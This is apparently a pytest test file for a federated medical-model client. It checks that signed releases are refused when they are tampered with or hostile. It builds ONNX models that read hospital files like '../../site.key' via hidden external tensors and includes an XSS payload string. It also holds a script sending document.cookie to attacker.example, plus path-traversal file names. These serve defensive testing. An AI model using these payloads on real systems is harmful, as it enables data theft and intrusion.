"""A release that is signed with the true key and holds what no site has compared, or what is more than a model.

Whoever has ``release.key`` can sign anything, also a list of comparisons that nobody made. So each attack here is
signed, and lists other sites' comparisons of the very files that are offered; only this site's own eyes are left.
"""

import contextlib
import hashlib
import io
import json
import re
import runpy
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import onnx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from onnx import TensorProto, helper, numpy_helper
from PIL import Image

import fedmed.predict
from client.app import main as flower_client
from client.hospital.compared import OwnComparison, write_own_comparison
from client.release.collect import collect
from client.release.content import Manifest, ReleaseError, parse_manifest
from client.release.look_through import look_through
from client.supernode.collected import read_collected
from fedmed.config.client import ClientConfig
from fedmed.errors import FedmedError, KeyFileError
from fedmed.keys import make_release_key, sign
from fedmed.protocol.release import name_compared
from fedmed.report.document import build_document
from fedmed.report.page import render_page
from fedmed.report.reading import read_document
from tests.client.support.kit import CLASSES, FakeFleet, make_kit
from tests.client.support.release import RUN, Release, draw_once
from tests.export.test_plain_onnx import BOMBS, make_model
from tests.report.support.example import make_content, make_record, make_site
from tests.report.support.page_parser import Page
from tests.support.mutations import mutations

SCRIPT = (
    "</style></bdi><script>alert('1')</script><img src=x onerror=alert(1)> & \"a' onclick=x [y](javascript:z) \\<b> `"
)
V1 = Path(__file__).parents[1] / "fixtures" / "v1" / "federation"


class Case:
    """A hospital that took part in a run, and what it is offered."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.config: ClientConfig = make_kit(folder)
        self.state = Path(self.config.state_dir)
        (self.state / "runs" / RUN).mkdir(parents=True)
        self.key = folder / "coordinator" / "release.key"
        self.release = Release(folder / "release", self.key, deploy=True)

    def keep_comparison(self, **changes: Any) -> None:
        """Have this site have compared what is offered now."""
        values = {"files": name_compared(self.release.manifest), "num_images": 12, "agrees": True}
        write_own_comparison(self.state / "runs" / RUN, OwnComparison(**(values | changes)))

    def offer(self, **changes: Any) -> str:
        """List and sign what lies in the release's folder, with comparisons of it by another site."""
        self.release.list_files()
        self.release.manifest |= changes
        self.release.compare()
        return self.release.sign()

    def put(self, name: str, content: bytes) -> None:
        (self.release.folder / name).unlink(missing_ok=True)
        (self.release.folder / name).write_bytes(content)

    def collect(self, **options: Any) -> FakeFleet:
        fleet = FakeFleet({}, self.release.folder)
        collect(self.config, fleet, self.release.sha256, **options)
        return fleet

    def refuse(self, match: str, error: type[FedmedError] = ReleaseError, **options: Any) -> None:
        """Expect a refusal in one line that changes nothing but the log."""
        before = self.list_all()
        with pytest.raises(error, match=match) as caught:
            self.collect(**options)
        assert "\n" not in str(caught.value)
        assert self.list_all() == before

    def list_all(self) -> dict[str, str]:
        """Return the hashes of all files, as they are anywhere near, but for those that tell of the attempt."""
        logs = {"audit.jsonl", "audit.head", "release.lock"}
        return {
            str(path): hashlib.sha256(path.read_bytes()).hexdigest()
            for path in sorted(self.folder.rglob("*"))
            if path.is_file() and path.name not in logs
        }


@pytest.fixture(autouse=True)
def _quick(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("client.release.written_here.render_page", draw_once)
    monkeypatch.setattr("client.release.collect._write_own_report", lambda *_: None)


@pytest.fixture
def case(tmp_path: Path) -> Case:
    return Case(tmp_path)


def predict(model: Path, *arguments: str, alone: bool = True) -> tuple[int, str]:
    """Classify an image with the program beside the model, or the installed one; return code and errors."""
    image = model.parent / "image.png"
    Image.fromarray(np.zeros((16, 16, 3), np.uint8)).save(image)
    program = runpy.run_path(str(model / "predict.py"))["main"] if alone else fedmed.predict.main
    said = io.StringIO()
    with contextlib.redirect_stderr(said), contextlib.redirect_stdout(io.StringIO()):
        code: int = program(["--model", str(model), *arguments, "--threads", "1", str(image)])
    return code, said.getvalue()


# --- files that do more than a model does


def make_thief(location: str) -> bytes:
    """Return a network whose logits are 16 bytes of a file of the hospital, as numbers."""
    tensor = TensorProto(name="stolen", data_type=TensorProto.UINT8, dims=[1, 16], data_location=TensorProto.EXTERNAL)
    for key, value in (("location", location), ("offset", "0"), ("length", "16")):
        tensor.external_data.add(key=key, value=value)
    nodes = [
        helper.make_node("Cast", ["stolen"], ["f"], to=TensorProto.FLOAT),
        helper.make_node("ReduceMean", ["images"], ["m"], keepdims=0),
        helper.make_node("Mul", ["m", "z"], ["m0"]),
        helper.make_node("Add", ["f", "m0"], ["logits"]),
    ]
    model = make_model()
    del model.graph.node[:], model.graph.initializer[:]
    model.graph.node.extend(nodes)
    model.graph.initializer.extend([tensor, numpy_helper.from_array(np.float32(0), "z")])
    return model.SerializeToString()


def hide(location: str, where: str) -> bytes:
    """Return the same with the stolen tensor elsewhere in the file."""
    model = onnx.ModelProto.FromString(make_thief(location))
    stolen = model.graph.initializer[0]
    if where == "constant":
        node = helper.make_node("Constant", [], ["stolen"])
        node.attribute.add(name="value", type=onnx.AttributeProto.TENSOR).t.CopyFrom(stolen)
        model.graph.node.insert(0, node)
    elif where == "branch":
        give = helper.make_node("Identity", ["stolen"], ["inner"])
        outputs = [helper.make_tensor_value_info("inner", TensorProto.UINT8, [1, 16])]
        branch = helper.make_graph([give], "branch", [], outputs, [stolen])
        model.graph.initializer.append(numpy_helper.from_array(np.array(True), "yes"))
        model.graph.node.insert(0, helper.make_node("If", ["yes"], ["stolen"], then_branch=branch, else_branch=branch))
    elif where == "loop":
        body = helper.make_graph([], "body", [], [], [stolen])
        model.graph.node.insert(0, helper.make_node("Loop", ["", ""], ["stolen"], body=body))
    elif where == "sparse":
        sparse = model.graph.sparse_initializer.add(dims=[1, 16])
        sparse.values.CopyFrom(stolen)
    elif where == "function":
        give = helper.make_node("Constant", [], ["y"])
        give.attribute.add(name="value", type=onnx.AttributeProto.TENSOR).t.CopyFrom(stolen)
        model.functions.append(helper.make_function("own", "Steal", [], ["y"], [give], [helper.make_opsetid("", 18)]))
        model.opset_import.append(helper.make_opsetid("own", 1))
        model.graph.node.insert(0, helper.make_node("Steal", [], ["stolen"], domain="own"))
    elif where == "training":
        model.training_info.add().initialization.initializer.append(stolen)
    del model.graph.initializer[0]
    return model.SerializeToString()


@pytest.mark.parametrize("location", ["../../site.key", "manifest.sig", "/etc/hostname", "..\\..\\site.key"])
def test_model_that_reads_a_file_of_the_hospital(case: Case, location: str) -> None:
    case.put("model.onnx", make_thief(location))
    case.offer()
    case.refuse("model.onnx of the release is refused: .*weights that lie in another file")
    assert not (case.state / "model").exists()


@pytest.mark.parametrize("where", ["constant", "branch", "loop", "sparse", "function", "training"])
def test_model_that_hides_where_it_reads(case: Case, where: str) -> None:
    case.put("model.onnx", hide("../../site.key", where))
    case.offer()
    case.refuse("model.onnx of the release is refused")


@pytest.mark.parametrize("name", ["filled", "expanded", "tiled, images", "folded in on itself", "all pairs of images"])
def test_model_of_a_few_hundred_bytes_that_makes_gigabytes(case: Case, name: str) -> None:
    more = {"w0": np.ones((1, 16, 16), np.float32), "c0": np.ones(1, np.int64)}
    case.put("model.onnx", make_model(BOMBS[name], more).SerializeToString())
    case.offer()
    case.refuse("model.onnx of the release is refused: The ONNX file is refused")


def test_page_programs_and_list_of_packages_do_not_travel(case: Case) -> None:
    """Whatever an older or a bad server offers beside the model stays there."""
    case.put("report.html", b"<script>fetch('http://attacker.example/'+document.cookie)</script><h1>report</h1>")
    case.put("requirements.txt", b"evil-package==6.6.6\n")
    case.put("model_card.md", b"<script>")
    case.put("predict.py", b"raise SystemExit('run')")
    extra = ["report.html", "requirements.txt", "model_card.md", "predict.py"]
    case.release.list_files()
    files = case.release.manifest["files"] | {
        name: {"sha256": case.release.hash(name), "bytes": 1} for name in extra
    }  # fmt: skip
    files |= {name: {"sha256": "0" * 64, "bytes": 2**40} for name in ("../../x", "/etc/passwd", "more.bin")}
    case.release.manifest["files"] = files
    case.release.sign()
    assert set(case.collect().downloaded) == {
        "manifest.json", "manifest.sig", "model.safetensors", "model.onnx", "proof.json", "report.json", "history.json",
    }  # fmt: skip
    model = case.state / "model"
    assert "evil" not in (model / "requirements.txt").read_text()
    assert re.findall(r"^(\w+)==", (model / "requirements.txt").read_text(), re.MULTILINE) == [
        "numpy", "pillow", "onnxruntime", "cryptography",
    ]  # fmt: skip
    assert "attacker" not in (case.state / "federation_report" / "index.html").read_text()
    assert predict(model)[0] == 0
    assert not list(case.folder.rglob("report.html"))[1:]  # the server's own


# --- another model than the one that was compared


def change_temperature(case: Case) -> None:
    case.release.manifest["temperature"] = 0.01


def swap_classes(case: Case) -> None:
    case.release.manifest["classes"] = list(reversed(CLASSES))


def shift_colours(case: Case) -> None:
    case.release.manifest["preprocessing"]["mean"] = [0.0, 0.0, 0.0]


def change_proof(case: Case) -> None:
    case.put("proof.json", b"{}")


def change_weights(case: Case) -> None:
    file = case.release.folder / "model.safetensors"
    data = bytearray(file.read_bytes())
    data[-4:] = b"\0\0\0\0"
    case.put(file.name, bytes(data))


def change_onnx(case: Case) -> None:
    model = onnx.load(case.release.folder / "model.onnx")
    weight = max(model.graph.initializer, key=lambda tensor: len(tensor.raw_data))
    weight.raw_data = bytes(len(weight.raw_data))
    case.put("model.onnx", model.SerializeToString())


CHANGES: dict[Callable[[Case], None], str] = {
    change_temperature: "manifest.json",
    swap_classes: "manifest.json",
    shift_colours: "manifest.json",
    change_proof: "proof.json",
    change_weights: "model.safetensors",
    change_onnx: "model.onnx",
}


@pytest.mark.parametrize("change", CHANGES)
def test_what_is_collected_is_what_this_site_compared(case: Case, change: Callable[[Case], None]) -> None:
    case.keep_comparison()
    case.collect()
    assert read_collected(case.state).compared == "this site on 12 of its test images"
    change(case)
    case.offer()
    wanted = f"The file {CHANGES[change]} of the release is not the one that this site has compared"
    case.refuse(wanted)
    case.refuse(wanted, accept_uncompared=True)


@pytest.mark.parametrize("change", CHANGES)
def test_what_is_collected_is_what_the_signed_list_says(case: Case, change: Callable[[Case], None]) -> None:
    """The list is of what was compared; somebody changed the files afterwards and signed them."""
    compared = case.release.manifest["compared"]
    change(case)
    case.release.list_files()
    case.release.sign(compared=compared)
    wanted = f"The file {CHANGES[change]} of the release is not the one that the site south has compared"
    case.refuse(wanted)
    case.refuse(wanted, accept_uncompared=True)


def test_site_that_found_a_difference_does_not_take_the_model(case: Case) -> None:
    case.keep_comparison(agrees=False)
    case.refuse("this site has found that its deployable form is not what was trained", accept_uncompared=True)


def test_form_that_was_not_compared_is_no_way_round(case: Case) -> None:
    """The train form of the same run has no ONNX file that could have been compared."""
    case.keep_comparison()
    shutil.rmtree(case.release.folder)
    case.release = Release(case.release.folder, case.key, seed=7)
    case.refuse("The file manifest.json of the release is not the one that this site has compared")


@pytest.mark.parametrize("compared", [{}, {"south": 0}])
def test_model_that_nobody_compared_waits_for_a_person(
    case: Case, compared: dict[str, int], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    told = {"sha256": name_compared(case.release.manifest), "max_abs_error": 0.0}
    case.release.sign(compared={site: told | {"num_images": number} for site, number in compared.items()})
    case.refuse("no other site that has.*flower-client --fetch-model --accept-uncompared")
    monkeypatch.setattr("client.supernode.fleet.Fleet", lambda config: FakeFleet({}, case.release.folder))
    command = ["--config", str(case.folder / "client.yaml"), "--fetch-model"]
    assert flower_client(command) == 1
    assert "--accept-uncompared" in capsys.readouterr().err
    assert flower_client([*command, "--accept-uncompared"]) == 0
    assert "nobody; it was taken with --accept-uncompared" in capsys.readouterr().out
    (entry,) = [
        line["fields"]
        for line in map(json.loads, (case.state / "audit.jsonl").read_text().splitlines())
        if line["event"] == "release_received"
    ]
    assert entry["compared_by"] == "nobody; it was taken with --accept-uncompared"


def test_damaged_memory_of_the_comparison_counts_as_none(case: Case, caplog: pytest.LogCaptureFixture) -> None:
    (case.state / "runs" / RUN / "compared.json").write_text('{"files": 3}')
    case.collect()
    assert "counts as one that did not compare" in caplog.text
    assert read_collected(case.state).compared == "south (40 images)"


# --- not for this site


def test_older_release_and_other_study(case: Case, tmp_path: Path) -> None:
    case.offer(released="2025-11-02T00:00:00+00:00")
    case.collect()
    case.offer(released="2025-11-01T00:00:00+00:00")
    case.refuse("released before the one here")
    case.offer(released="2025-11-03T00:00:00+00:00", run_id="other")
    case.refuse("of a run in which this site took no part")
    case.offer(run_id=RUN)
    case.config.policy.study = "ours"
    case.refuse("allows 'ours' only")
    make_release_key(tmp_path / "stranger")
    case.release.manifest["released"] = "2025-11-04T00:00:00+00:00"
    data = (case.release.folder / "manifest.json").read_bytes()
    (case.release.folder / "manifest.sig").write_text(sign(tmp_path / "stranger" / "release.key", data))
    case.refuse("signature does not fit", KeyFileError)


@pytest.mark.parametrize(
    ("changes", "words"),
    [
        ({"format": 99}, "cannot be read .'format'"),
        ({"site": "south"}, "cannot be read .'site'"),
        ({"classes": ["a"]}, "cannot be read .'classes'"),
        ({"temperature": 0.0}, "cannot be read .'temperature'"),
        ({"temperature": 1e400}, "number that is too large or none"),
        ({"temperature": float("nan")}, "number that is too large or none"),
        ({"proof": None}, "lacks its proof"),
        ({"plan": {}}, "cannot be read"),
        ({"title": "x" * 10_000}, "cannot be read .'title'"),
        ({"compared": {"south": {"sha256": {"model.onnx": "../x"}, "num_images": 1}}}, "cannot be read .'compared"),
        ({"more": [[[[]]]] * 3 + [json.loads("[" * 90 + "]" * 90)]}, "nested too deeply"),
    ],
)
def test_manifest_that_is_none(case: Case, changes: dict[str, Any], words: str) -> None:
    case.release.sign(**changes)
    case.refuse(words)


@pytest.mark.parametrize("name", ["model.safetensors", "model.onnx", "proof.json", "report.json", "history.json"])
def test_file_that_is_too_large_is_not_fetched(case: Case, name: str) -> None:
    files = case.release.manifest["files"]
    case.release.sign(files=files | {name: files[name] | {"bytes": 2**33}})
    case.refuse(f"{name} has 8,589,934,592 bytes, allowed are")


def test_file_that_leads_elsewhere_is_not_taken_for_the_one_of_before(case: Case) -> None:
    case.collect()
    file = case.state / "model" / "model.onnx"
    file.rename(case.folder / "elsewhere.onnx")
    file.symlink_to(case.folder / "elsewhere.onnx")
    assert "model.onnx" in case.collect().downloaded
    assert not file.is_symlink()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("model.safetensors", b"garbage"),
        ("model.safetensors", (2**40).to_bytes(8, "little") + b"{}"),
        ("model.onnx", b""),
        ("proof.json", b"[" * 100_000),
        ("proof.json", b'{"a": NaN}'),
        ("history.json", b"{}"),
        ("history.json", b'[{"round": 1e999}]'),
        ("history.json", b'[{"round": "one"}]'),
        ("report.json", b"{}"),
        ("report.json", b"\xff\xfe"),
        ("report.json", b'{"title": "' + b"x" * 200_000 + b'"}'),
    ],
)
def test_file_that_is_not_what_it_must_be(case: Case, name: str, content: bytes) -> None:
    case.collect()
    case.put(name, content)
    case.offer()
    case.refuse(f"The file {name} of the release is refused")


# --- texts that want to be more


def make_hostile_report() -> dict[str, Any]:
    """Return a report of which every text is a script."""
    classes = [SCRIPT, *CLASSES[1:]]
    tables = {SCRIPT: make_site(SCRIPT, [(0, 0), (1, 1), (2, 0)], 3)}
    content = make_content(
        title=SCRIPT,
        classes=tuple(classes),
        test=tables,
        validation=tables,
        composition=None,
        history=[make_record(1, {SCRIPT: "accepted"}), make_record(2, {SCRIPT: SCRIPT})],
        config={SCRIPT: SCRIPT},
        environment={SCRIPT: SCRIPT},
        notes=[SCRIPT],
        command=SCRIPT,
    )
    document: dict[str, Any] = json.loads(json.dumps(build_document(content)))
    return document


def find_active(page: Page) -> list[object]:
    """Return what of a page would run or fetch something."""
    tags = {"script", "img", "iframe", "object", "embed", "link", "form", "base", "a"}
    attributes = [(tag, name, value) for tag, found in page.tags for name, value in found.items()]
    links = [entry for entry in attributes if entry[1] in {"href", "src"} and not (entry[2] or "").startswith("#")]
    return [
        *(tag for tag, found in page.tags if tag in tags - {"a"}),
        *(entry for entry in attributes if entry[1].startswith("on")),
        *links,
    ]


def test_scripts_in_every_text_stay_text(case: Case) -> None:
    report = make_hostile_report()
    case.put("report.json", json.dumps(report).encode())
    texts = {"title": SCRIPT, "batch_norm": SCRIPT, "classes": report["classes"]}
    case.release.manifest["plan"] |= {"study": SCRIPT, "approval": SCRIPT, "classes": report["classes"]}
    case.release.manifest["sizes"]["machine"]["processor"] = SCRIPT
    case.release.manifest["proof"] |= {"images": SCRIPT, "details": SCRIPT}
    case.release.manifest["teacher"] = {"name": SCRIPT, "source": SCRIPT, "sha256": SCRIPT}
    case.release.manifest["expected"] = {"basis": SCRIPT, "mean": [0.0, 1.0]}
    case.offer(**texts, release={"kind": SCRIPT, "by": SCRIPT, "time": SCRIPT}, notice=SCRIPT)
    case.collect()
    page = Page((case.state / "federation_report" / "index.html").read_text())
    assert find_active(page) == []
    assert page.text.count("<script>alert('1')</script>") > 10
    card = (case.state / "model" / "model_card.md").read_text()
    assert card.count("alert") > 10
    plain = re.sub(r"`[^`\n]*`", "", re.sub(r"\\.", "", card))  # without what is escaped, and what is shown as code
    assert "<" not in plain
    assert "](" not in plain
    assert SCRIPT not in (case.state / "model" / "predict.py").read_text()


def test_own_report_shows_the_same_texts_as_text(case: Case, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.undo()
    history = [make_record(1, {SCRIPT: SCRIPT})]
    case.put("history.json", json.dumps(history).encode())
    case.release.manifest["plan"] |= {"study": SCRIPT, "approval": SCRIPT}
    case.offer()
    case.collect()
    assert find_active(Page((case.state / "report" / "index.html").read_text())) == []


def replace_text(value: Any, old: str) -> Any:
    if isinstance(value, dict):
        return {SCRIPT if key == old else key: replace_text(item, old) for key, item in value.items()}
    if isinstance(value, list):
        return [replace_text(item, old) for item in value]
    return SCRIPT if value == old else value


def list_texts(value: Any) -> Iterator[str]:
    if isinstance(value, dict):
        yield from value
        value = list(value.values())
    if isinstance(value, list):
        for item in value:
            yield from list_texts(item)
    elif isinstance(value, str):
        yield value


@pytest.mark.parametrize(
    ("make", "step"),
    [
        ("plain", 5),
        pytest.param("with groups", 5, marks=pytest.mark.ci),
        pytest.param("plain", 1, marks=pytest.mark.slow),
        pytest.param("with groups", 1, marks=pytest.mark.slow),
    ],
)
def test_script_in_place_of_any_word_of_a_report_is_refused_or_stays_text(
    make: str, step: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    from tests.report.support.fairness_example import make_fair_content

    for module in ("plots", "fairness_plots"):  # drawings hold few words, and take most of the time
        monkeypatch.setattr(f"fedmed.report.drawing.{module}.render_drawing", lambda *_, **__: "<svg></svg>")
    content = make_content() if make == "plain" else make_fair_content()
    document = json.loads(json.dumps(build_document(content)))
    shown = 0
    for word in sorted(set(list_texts(document)))[::step]:
        data = json.dumps(replace_text(document, word)).encode()
        try:
            page = render_page(read_document(data))
        except (FedmedError, KeyError):  # a name that the form needs, or that another part of the report needs
            continue
        assert find_active(Page(page)) == [], word
        shown += 1
    assert shown * step > 30


# --- the program beside the model


def test_program_opens_nothing_but_what_was_signed(case: Case) -> None:
    case.collect()
    model = case.state / "model"
    assert predict(model)[0] == predict(model, alone=False)[0] == 0
    sound = case.folder / "sound"
    shutil.copytree(model, sound)

    def refused(*, alone: bool = True) -> str:
        code, text = predict(model, alone=alone)
        said = text.strip().splitlines()
        assert (code, len(said)) == (1, 3), text  # what it is not, an empty line, and the reason
        shutil.rmtree(model)
        shutil.copytree(sound, model)
        return said[-1]

    manifest = json.loads((model / "manifest.json").read_text())
    changed = json.dumps(manifest | {"temperature": 50.0}).encode()
    plain = json.dumps({key: value for key, value in manifest.items() if key != "released"}).encode()
    for alone in (True, False):
        (model / "manifest.json").write_bytes(changed)
        assert "signature cannot be confirmed" in refused(alone=alone)
        (model / "manifest.sig").unlink()
        assert "signature cannot be confirmed" in refused(alone=alone)
        with (model / "model.onnx").open("ab") as file:
            file.write(b" ")
        assert "has been changed: its SHA-256" in refused(alone=alone)
    # Somebody else's key and signature, and no signature at all: the key in the program knows better.
    make_release_key(case.folder / "stranger")
    shutil.copy(case.folder / "stranger" / "release.pub", model)
    (model / "manifest.json").write_bytes(changed)
    (model / "manifest.sig").write_text(sign(case.folder / "stranger" / "release.key", changed))
    assert "signature cannot be confirmed" in refused()
    for name in ("manifest.sig", "release.pub"):
        (model / name).unlink()
    (model / "manifest.json").write_bytes(plain)
    assert "signature cannot be confirmed" in refused()
    for name in ("manifest.sig", "release.pub"):
        (model / name).unlink()
    (model / "manifest.json").write_bytes(plain)
    assert predict(model, "--key", str(case.folder / "release.pub"), alone=False)[0] == 1
    assert predict(model, alone=False)[0] == 0  # it knows of no signature, as with a simulation's model


def test_program_says_which_package_it_lacks(case: Case) -> None:
    case.collect()
    code = (
        "import runpy, sys; sys.modules['cryptography'] = None; sys.argv = sys.argv[1:]\n"
        "runpy.run_path(sys.argv[0], run_name='__main__')"
    )
    command = [sys.executable, "-c", code, str(case.state / "model" / "predict.py"), "any.png"]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 1
    assert (
        done.stderr.strip()
        .splitlines()[-1]
        .endswith("cryptography is not installed here; type: pip install -r requirements.txt.")
    )


# --- a server of an older version


def test_release_of_an_older_server_is_taken_as_far_as_it_is_a_model(case: Case, tmp_path: Path) -> None:
    shutil.rmtree(case.release.folder)
    shutil.copytree(V1 / "run" / "release", case.release.folder)
    shutil.copy(V1 / "release.pub", case.config.release_key)
    manifest = json.loads((case.release.folder / "manifest.json").read_text())
    (case.state / "runs" / manifest["run_id"]).mkdir()
    case.refuse("--accept-uncompared")
    fleet = case.collect(accept_uncompared=True)
    assert not {"report.html", "requirements.txt", "model_card.md"} & set(fleet.downloaded)
    assert predict(case.state / "model")[0] == 0
    assert "Federated model 'fixture'" in (case.state / "model" / "model_card.md").read_text()


# --- anything


def mutate_json(draw: st.DrawFn, value: Any) -> Any:
    """Return JSON in which one thing is another, or is not there, or is more often there."""
    odd: list[Any] = [None, True, -1, 0, 2**70, 1e308, "", "x" * 3000, "../../x", SCRIPT, [], {}, [[]] * 5, "\ud800"]
    value = json.loads(json.dumps(value))
    place = value
    while True:
        keys: list[Any] = list(place) if isinstance(place, dict) else list(range(len(place)))
        if not keys:
            return value
        key = draw(st.sampled_from(keys))
        inner = place[key]
        if isinstance(inner, dict | list) and inner and draw(st.integers(0, 4)):
            place = inner
            continue
        change = draw(st.sampled_from(["odd", "odd", "gone", "again"]))
        if change == "gone":
            del place[key]
        elif change == "again" and isinstance(place, list):
            place.extend([inner] * 20)
        else:
            place[key] = draw(st.sampled_from(odd))
        return value


@st.composite
def json_mutations(draw: st.DrawFn, sound: str) -> bytes:
    value = json.loads(sound)
    for _ in range(draw(st.integers(1, 3))):
        value = mutate_json(draw, value)
    return json.dumps(value).encode()


EXAMPLES = [100, pytest.param(2000, marks=pytest.mark.slow)]


def say(call: Callable[[], object]) -> str | None:
    """Return the refusal of a call, one line; None if there is none."""
    try:
        call()
    except FedmedError as error:
        return str(error)
    return None


@pytest.mark.parametrize("examples", EXAMPLES)
def test_any_manifest_is_read_or_refused_in_one_line(case: Case, examples: int) -> None:
    sound = (case.release.folder / "manifest.json").read_text()

    @settings(max_examples=examples, deadline=None)
    @given(st.one_of(json_mutations(sound), mutations(sound.encode()), st.binary(max_size=50)))
    def check(data: bytes) -> None:
        refusal = say(lambda: parse_manifest(data, "0" * 64))
        assert refusal is None or "\n" not in refusal

    check()


@pytest.mark.parametrize("examples", EXAMPLES)
@pytest.mark.parametrize("name", ["report.json", "history.json", "proof.json", "model.safetensors", "model.onnx"])
def test_any_file_is_read_or_refused_in_one_line(case: Case, name: str, examples: int) -> None:
    file = case.release.folder / name
    sound, manifest = file.read_bytes(), read_manifest(case)
    kinds = [mutations(sound), st.binary(max_size=50)]
    if file.suffix == ".json":
        kinds.append(json_mutations(sound.decode()))

    @settings(max_examples=examples, deadline=None)
    @given(st.one_of(*kinds))
    def check(data: bytes) -> None:
        file.write_bytes(data)
        refusal = say(lambda: look_through(case.release.folder, manifest))
        assert refusal is None or ("\n" not in refusal and name in refusal)

    check()


def read_manifest(case: Case) -> Manifest:
    data = (case.release.folder / "manifest.json").read_bytes()
    return parse_manifest(data, hashlib.sha256(data).hexdigest())


@pytest.mark.parametrize("examples", [15, pytest.param(500, marks=pytest.mark.slow)])
def test_any_signed_release_is_collected_or_changes_nothing(case: Case, examples: int) -> None:
    case.collect()
    names = ["report.json", "history.json", "proof.json"]
    sound = {name: (case.release.folder / name).read_text() for name in names}
    manifest = json.loads(json.dumps(case.release.manifest))

    @settings(max_examples=examples, deadline=None)
    @given(st.data())
    def check(data: st.DataObject) -> None:
        name = data.draw(st.sampled_from([*names, "manifest.json"]))
        for other, text in sound.items():
            case.put(other, text.encode())
        case.release.manifest = json.loads(json.dumps(manifest))
        if name == "manifest.json":
            changed = json.loads(data.draw(json_mutations(json.dumps(manifest))))
            case.release.manifest = changed if isinstance(changed, dict) else {}
            case.release.sign()
        else:
            case.put(name, data.draw(json_mutations(sound[name])))
            case.offer()
        before = case.list_all()
        refusal = say(case.collect)
        outside = {path: digest for path, digest in case.list_all().items() if not path.startswith(str(case.state))}
        assert outside == {path: digest for path, digest in before.items() if not path.startswith(str(case.state))}
        if refusal is not None:
            assert "\n" not in refusal
            assert case.list_all() == before
        assert (case.state / "model" / "model.onnx").is_file()

    check()
